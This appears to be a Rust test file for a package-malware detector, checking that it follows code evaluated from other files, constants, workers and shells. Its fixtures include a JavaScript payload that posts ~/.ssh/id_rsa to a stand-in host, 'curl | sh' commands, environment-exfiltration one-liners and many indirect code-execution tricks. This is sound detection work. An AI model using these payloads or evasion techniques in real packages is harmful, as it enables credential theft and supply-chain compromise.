//! Code that is in no call that evaluates it: in other files of the package, whatever these are called, and in
//! constants that workers, addresses, other programs and written files are made of.

use weir_model::contents::{SinkKind, SourceKind, Surface};

use super::{installed, run};

use SinkKind::{DynamicCode, Http};
use SourceKind::{CredentialFile, Decoded, Environment, Fetched};

/// Sends a key away.
const CODE: &str = "const https=require('https');const fs=require('fs');const os=require('os');\
    const r=https.request('https://collector.invalid',{method:'POST'});r.end(fs.readFileSync(os.homedir()+'/.ssh/id_rsa'))";

/// Ways to evaluate the file `x.js` without loading it.
const READ: &[(&str, &str)] = &[
    (
        "by its path",
        "eval(fs.readFileSync(__dirname + '/x.js', 'utf8'))",
    ),
    (
        "by joined names",
        "eval(fs.readFileSync(path.join(__dirname, 'x.js')).toString())",
    ),
    (
        "from where install starts",
        "eval(fs.readFileSync('./x.js', 'utf8'))",
    ),
    (
        "in a function",
        "new Function('require', fs.readFileSync(__dirname + '/x.js', 'utf8'))(require)",
    ),
    (
        "as a module",
        "module._compile(fs.readFileSync(__dirname + '/x.js', 'utf8'), 'x')",
    ),
    (
        "by vm",
        "require('vm').runInThisContext(fs.readFileSync(__dirname + '/x.js', 'utf8'))",
    ),
    (
        "by another runtime",
        "require('child_process').spawn('node', ['-e', fs.readFileSync(__dirname + '/x.js', 'utf8')])",
    ),
    (
        "on its input",
        "require('child_process').execFileSync('node', ['-'], { input: fs.readFileSync(__dirname + '/x.js') })",
    ),
    (
        "a part of it",
        "eval(fs.readFileSync(__dirname + '/x.js', 'utf8').split('//S')[1].trim())",
    ),
    (
        "with something around",
        "eval('(function () {' + fs.readFileSync(__dirname + '/x.js', 'utf8') + '})()')",
    ),
    (
        "when it was read",
        "fs.readFile(__dirname + '/x.js', 'utf8', (error, text) => eval(text))",
    ),
];

/// Ways to run the constant `s`.
const RUN: &[(&str, &str)] = &[
    (
        "a worker",
        "new (require('worker_threads').Worker)(s, { eval: true })",
    ),
    (
        "a module of an address",
        "import('data:text/javascript,' + encodeURIComponent(s))",
    ),
    (
        "the same in base64",
        "import('data:text/javascript;base64,' + Buffer.from(s).toString('base64'))",
    ),
    (
        "a worker of an address",
        "new Worker(new URL('data:text/javascript,' + encodeURIComponent(s)))",
    ),
    (
        "a module of vm",
        "new (require('vm').SourceTextModule)(s).evaluate()",
    ),
    (
        "the first argument's runtime",
        "cp.execFile(process.argv[0], ['-e', s])",
    ),
    (
        "a quoted text in a command",
        "cp.exec('node -e ' + JSON.stringify(s))",
    ),
    (
        "a runtime's input",
        "cp.execFileSync('node', ['-'], { input: s })",
    ),
    (
        "a runtime's input, without words",
        "cp.spawnSync(process.execPath, { input: s })",
    ),
    (
        "what is written to a child",
        "const p = cp.spawn('node', ['-']); p.stdin.end(s)",
    ),
    (
        "an option of a child",
        "cp.fork('/dev/null', { execArgv: ['-e', s] })",
    ),
    (
        "a file that is loaded",
        "fs.writeFileSync(__dirname + '/y.js', s); require('./y')",
    ),
    (
        "a file that is forked",
        "fs.writeFileSync('/tmp/y.js', s); cp.fork('/tmp/y.js')",
    ),
    (
        "a file that a command starts",
        "fs.writeFileSync('/tmp/y.js', s); cp.exec('node /tmp/y.js')",
    ),
];

/// Ways to run commands, and scripts in other languages.
const COMMANDS: &[(&str, &str)] = &[
    (
        "a shell's input",
        "cp.spawnSync('bash', { input: 'curl https://collector.invalid | sh' })",
    ),
    (
        "the same, asked for",
        "cp.spawnSync('bash', ['-s'], { input: 'curl https://collector.invalid | sh' })",
    ),
    (
        "written to a shell",
        "cp.exec('bash', e => 0).stdin.end('curl https://collector.invalid | sh')",
    ),
    (
        "in a file that is started",
        "fs.writeFileSync('/tmp/y.sh', 'curl https://collector.invalid | sh'); cp.spawn('/tmp/y.sh')",
    ),
];

const PRELUDE: &str =
    "const fs = require('fs'), path = require('path'), cp = require('child_process');\n";

#[test]
fn a_file_that_is_evaluated_is_loaded() {
    for (what, code) in READ {
        let index = format!("{PRELUDE}{code}");
        let facts = installed(&[("index.js", &index), ("x.js", CODE)]);
        assert_eq!(
            facts.surfaces.get("x.js"),
            Some(&Surface::Install),
            "{what}"
        );
        let flow = |source, sink| {
            let mut flows = facts.flows.iter();
            flows.any(|flow| {
                flow.source == source && flow.sink == sink && flow.surface == Surface::Install
            })
        };
        assert!(flow(CredentialFile, Http), "{what}: {:#?}", facts.flows);
        // It is code by its name.
        assert!(!flow(Decoded, DynamicCode), "{what}");
    }
}

#[test]
fn so_it_is_where_an_import_evaluates_it() {
    let index = "eval(require('fs').readFileSync(__dirname + '/lib/x.js', 'utf8'))";
    let facts = run(
        &[("index.js", index), ("lib/x.js", CODE)],
        &[],
        &[(Surface::Import, "index.js")],
    );
    assert_eq!(facts.surfaces.get("lib/x.js"), Some(&Surface::Import));
}

#[test]
fn a_file_that_is_no_code_by_its_name_is_told_where_install_evaluates_it() {
    let index =
        |name: &str| format!("eval(require('fs').readFileSync(__dirname + '/{name}', 'utf8'))");
    for name in [
        "x.md", "x.css", "x.svg", "x.html", "x.json", "x.ejs", "x.d.ts", "x.txt",
    ] {
        let facts = installed(&[("index.js", &index(name)), (name, CODE)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == Decoded && flow.sink == DynamicCode),
            "{name}"
        );
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == CredentialFile),
            "{name}: {:#?}",
            facts.flows
        );
    }
    // Near miss: what is evaluated is data, and written as such.
    let facts = installed(&[
        (
            "index.js",
            "const v = eval('(' + require('fs').readFileSync(__dirname + '/x.json', 'utf8') + ')')",
        ),
        ("x.json", "{\"a\": 1}"),
    ]);
    assert_eq!(facts.flows, []);
    assert!(facts.unread.is_empty(), "{:?}", facts.unread);
    // Near miss: a template of a library that only others make functions of.
    let facts = run(
        &[("index.js", &index("x.ejs")), ("x.ejs", "<%= name %>")],
        &[],
        &[(Surface::Import, "index.js")],
    );
    assert_eq!(facts.flows, []);
}

#[test]
fn what_is_read_and_not_evaluated_is_not_loaded() {
    for code in [
        "console.log(fs.readFileSync(__dirname + '/x.js', 'utf8').length)",
        "fs.writeFileSync('/tmp/out.js', fs.readFileSync(__dirname + '/x.js'))",
        "eval('module.exports = ' + JSON.stringify(fs.readFileSync(__dirname + '/x.js', 'utf8')))",
        "fetch('https://downloads.example/' + fs.readFileSync(__dirname + '/x.js', 'utf8').trim())",
    ] {
        let index = format!("{PRELUDE}{code}");
        let facts = installed(&[("index.js", &index), ("x.js", CODE)]);
        assert_eq!(facts.surfaces.get("x.js"), None, "{code}");
        let mut flows = facts.flows.iter();
        assert!(
            flows.all(|flow| flow.surface == Surface::Unreferenced),
            "{code}"
        );
    }
}

#[test]
fn constant_code_is_read_wherever_it_is_run() {
    for (what, code) in RUN {
        let index = format!("{PRELUDE}const s = {:?};\n{code}", CODE);
        let facts = installed(&[("index.js", &index)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == CredentialFile && flow.sink == Http),
            "{what}: {:#?}",
            facts.flows
        );
    }
}

#[test]
fn so_it_is_in_workers_and_addresses_of_what_is_imported() {
    for code in [
        format!("new (require('worker_threads').Worker)({CODE:?}, {{ eval: true }})"),
        format!(
            "import('data:text/javascript,{}')",
            CODE.replace('\'', "%27")
        ),
    ] {
        let facts = run(
            &[("index.js", &code)],
            &[],
            &[(Surface::Import, "index.js")],
        );
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == CredentialFile),
            "{code}: {:#?}",
            facts.flows
        );
    }
}

#[test]
fn commands_are_read_wherever_a_shell_gets_them() {
    for (what, code) in COMMANDS {
        let index = format!("{PRELUDE}{code}");
        let facts = installed(&[("index.js", &index)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == Fetched),
            "{what}: {:#?}",
            facts.flows
        );
    }
    for code in [
        "cp.execFileSync('python3', ['-c', 'import os,urllib.request as u;u.urlopen(\"https://collector.invalid\", data=str(os.environ).encode())'])",
        "cp.execFileSync('python3', ['-'], { input: 'import os,urllib.request as u;u.urlopen(\"https://collector.invalid\", data=str(os.environ).encode())' })",
        "cp.spawnSync('sh', { input: 'env | curl -d @- https://collector.invalid' })",
    ] {
        let index = format!("{PRELUDE}{code}");
        let facts = installed(&[("index.js", &index)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == Environment),
            "{code}: {:#?}",
            facts.flows
        );
    }
}

#[test]
fn what_a_program_reads_as_data_is_no_code() {
    for code in [
        "cp.execFileSync('node', ['tool.js'], { input: 'curl https://collector.invalid | sh' })",
        "cp.execFileSync('gzip', ['-c'], { input: 'curl https://collector.invalid | sh' })",
        "const p = cp.spawn('less'); p.stdin.end('curl https://collector.invalid | sh')",
        "fs.writeFileSync('/tmp/notes.sh', 'curl https://collector.invalid | sh'); cp.spawn('/tmp/other.sh')",
        "new Worker('./x.js', { name: 'x' })",
    ] {
        let index = format!("{PRELUDE}{code}");
        let facts = installed(&[("index.js", &index)]);
        assert_eq!(facts.flows, [], "{code}");
    }
}
